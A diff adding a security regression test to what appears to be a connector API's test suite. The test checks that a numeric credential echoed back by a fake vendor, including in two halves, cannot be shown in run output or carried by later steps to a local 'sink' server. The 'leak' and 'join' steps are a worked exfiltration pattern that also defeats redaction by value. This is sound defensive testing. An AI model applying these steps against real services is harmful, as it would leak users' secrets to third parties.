@@ -1,10 +1,12 @@
 // Security review: hostile members, workspace admins and outsiders against the API.
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { beforeAll, describe, expect, it } from "vitest";
 import type { Connector } from "../worker/db/connectors.ts";
 import type { Template } from "../worker/db/templates.ts";
 import { envelope, testClient } from "./harness/app.ts";
 import { simpleDefinition } from "./harness/definitions.ts";
-import { arrangeConnector } from "./harness/executions.ts";
+import { arrangeConnector, executionRow, waitForStatus } from "./harness/executions.ts";
 import { adminSql, createTeam, insertCredentialRow } from "./harness/fixtures.ts";
 import { startTarget } from "./harness/target.ts";
 import { uniqueTag } from "./harness/templates.ts";
@@ -260,5 +262,116 @@ describe("review: an echoed credential through a dry run", () => {
       }
     }
     expect(answers[0]).toEqual(answers[1]);
+  });
+});
+
+describe("review: a digits-only credential echoed as a JSON number (issue 11 finding 1)", () => {
+  it("neither a dry run nor an execution shows its digits, and step 2 cannot carry them to another host", async () => {
+    const digits = "4815162342108";
+    // The vendor counts what it was sent and answers the bearer token back as a number.
+    const vendor = createServer((req, res) => {
+      const token = String(req.headers.authorization ?? "").replace(/^Bearer /, "");
+      res.writeHead(200, { "content-type": "application/json" });
+      const digitsOnly = /^[0-9]+$/.test(token) ? token : "0";
+      // It also echoes the key in two halves, which no redaction by value can recognise.
+      res.end(
+        `{"quantity": ${digitsOnly}, "a": "${digitsOnly.slice(0, 6)}", "b": "${digitsOnly.slice(6)}"}`,
+      );
+    });
+    const sinkSeen: string[] = [];
+    const sink = createServer((req, res) => {
+      sinkSeen.push(`${req.url} ${JSON.stringify(req.headers)}`);
+      res.writeHead(200, { "content-type": "application/json" });
+      res.end("{}");
+    });
+    await Promise.all(
+      [vendor, sink].map((s) => new Promise<void>((r) => s.listen(0, "127.0.0.1", r))),
+    );
+    const vendorHost = `127.0.0.1:${(vendor.address() as AddressInfo).port}`;
+    const sinkHost = `127.0.0.1:${(sink.address() as AddressInfo).port}`;
+    try {
+      const local = testClient({
+        OUTBOUND_ALLOW_HOSTS: `${vendorHost},${sinkHost}`,
+        RUNNER: "inline",
+      });
+      const t = await createTeam();
+      const put = await local.json(`/v1/workspaces/${t.workspaceId}/credentials/numeric_key`, {
+        method: "PUT",
+        token: t.owner.token,
+        body: { value: digits, allowedHosts: [vendorHost] },
+      });
+      expect(put.status, JSON.stringify(put.body)).toBe(201);
+      const created = await local.json<Connector>(`/v1/workspaces/${t.workspaceId}/connectors`, {
+        method: "POST",
+        token: t.member.token,
+        body: {
+          name: uniqueTag("numeric"),
+          definition: {
+            steps: [
+              {
+                id: "tags",
+                request: {
+                  method: "POST",
+                  url: `http://${vendorHost}/v1/people/p/tags`,
+                  auth: { type: "bearer", credential: "numeric_key" },
+                  body: { type: "json", value: { tag: "x" } },
+                },
+                extract: { q: "$.quantity", a: "$.a", b: "$.b" },
+              },
+              {
+                id: "leak",
+                onError: "continue",
+                request: { method: "GET", url: `http://${sinkHost}/c/{{steps.tags.q}}` },
+              },
+              {
+                id: "join",
+                request: {
+                  method: "GET",
+                  url: `http://${sinkHost}/j?k={{steps.tags.a}}{{steps.tags.b}}`,
+                },
+              },
+            ],
+          },
+        },
+      });
+      expect(created.status, JSON.stringify(created.body)).toBe(201);
+      const base = `/v1/workspaces/${t.workspaceId}/connectors/${created.body.id}`;
+      const dry = await local.json(`${base}/test`, {
+        method: "POST",
+        token: t.member.token,
+        body: { input: {} },
+      });
+      expect(dry.status, JSON.stringify(dry.body)).toBe(200);
+      expect(JSON.stringify(dry.body)).not.toContain(digits);
+      const drySteps = (dry.body as { steps: { id: string; error?: { kind: string } }[] }).steps;
+      expect(drySteps.find((step) => step.id === "join")?.error?.kind).toBe("blocked");
+      const started = await local.json<{ id: string }>(`${base}/executions`, {
+        method: "POST",
+        token: t.member.token,
+        body: { input: {} },
+      });
+      expect(started.status, JSON.stringify(started.body)).toBe(202);
+      await waitForStatus(started.body.id, ["succeeded", "failed"]);
+      const read = await local.json(
+        `/v1/workspaces/${t.workspaceId}/executions/${started.body.id}`,
+        {
+          token: t.member.token,
+        },
+      );
+      expect(read.status).toBe(200);
+      expect(JSON.stringify(read.body)).not.toContain(digits);
+      expect(JSON.stringify(await executionRow(started.body.id))).not.toContain(digits);
+      expect(sinkSeen.join("\n")).not.toContain(digits);
+    } finally {
+      await Promise.all(
+        [vendor, sink].map(
+          (s) =>
+            new Promise<void>((r) => {
+              s.closeAllConnections();
+              s.close(() => r());
+            }),
+        ),
+      );
+    }
   });
 });
